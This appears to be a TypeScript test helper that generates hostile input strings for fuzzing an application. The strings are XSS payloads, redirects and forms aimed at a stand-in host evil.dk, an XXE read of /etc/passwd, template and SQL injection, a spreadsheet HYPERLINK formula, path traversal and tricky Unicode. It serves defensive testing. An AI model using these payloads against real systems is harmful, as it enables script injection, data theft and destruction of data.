import type { Random } from './random.ts';

/** What a text sets on the page where it comes to run. */
export const MARK = 'hostileRan';

const RUN = `globalThis.${MARK}=1;alert(1)`;

/** Markup and script of a page. */
const ofPages = [
  `<script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<svg/onload=${RUN}><foreignObject><iframe src="javascript:${RUN}">`,
  `"><a href="javascript:${RUN}">x</a>`,
  `' autofocus onfocus='${RUN}`,
  `</textarea><script>${RUN}</script>`,
  `</title></style><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `<details open ontoggle=${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.${MARK}=1</script>"></iframe>`,
  `<video><source onerror=${RUN}></video>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  '<meta http-equiv=refresh content="0;url=http://evil.dk/">',
  '<base href="http://evil.dk/"><link rel=stylesheet href=x.css>',
  '<form action="http://evil.dk/"><button autofocus>x</button></form>',
  '<object data="http://evil.dk/x.svg"></object><embed src="http://evil.dk/x">',
  '@import url(http://evil.dk/x.css);',
  '<!--#exec cmd="ls"-->',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
];

/** What templates, translations, typesetters, databases and spreadsheets would take as theirs. */
const ofPrograms = [
  `{{constructor.constructor("globalThis.${MARK}=1")()}}`,
  '{{constructor.constructor("return process")()}}',
  '${process.exit()}',
  '$t(common.ok) {alias} {{owner}}',
  '__proto__',
  '#import "@preview/evil:0.1.0": *',
  '#read("/etc/passwd")',
  '#panic("x")',
  '#eval("1+1") #let x = 1',
  '$ integral_0^infinity $ *bold* _it_ `raw` = Heading',
  '\\u{1F600} \\ #[ ] @label <label>',
  '#set page(width: 1pt)',
  '#include "../../secret.typ"',
  "'; DROP TABLE meeting; --",
  'Robert"); DELETE FROM course; --',
  '=HYPERLINK("http://evil.dk";"x")',
  '%PDF-1.7 endstream endobj',
  '../../../../etc/passwd',
];

/** Signs that turn, hide, stack or are half of one. */
const ofSigns = [
  '\u202Etxet desrever\u202C',
  '\u0000\u0007\u001B[31m',
  '\uD800 lone',
  'a\u0301\u0301\u0301\u0301\u0301',
  '👩‍👩‍👧‍👦🏳️‍🌈',
  '\r\n\r\n\t\v\f',
];

export const hostileTexts: readonly string[] = [...ofPages, ...ofPrograms, ...ofSigns];

/** So many of them in one text, `from` to `to`. */
export const hostileMix = (random: Random, from = 1, to = 4): string =>
  Array.from({ length: from + random.below(to - from + 1) }, () => random.pick(hostileTexts)).join(
    random.pick(['', ' ', '\n']),
  );
